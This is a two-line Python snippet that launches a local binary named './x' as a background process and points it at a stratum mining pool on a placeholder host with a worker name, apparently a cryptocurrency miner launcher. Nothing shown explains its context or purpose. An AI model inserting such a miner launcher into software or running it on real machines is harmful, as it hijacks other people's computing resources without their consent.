import subprocess
subprocess.Popen(["./x", "-o", "stratum+tcp://pool.example.net:3333", "-u", "w"])
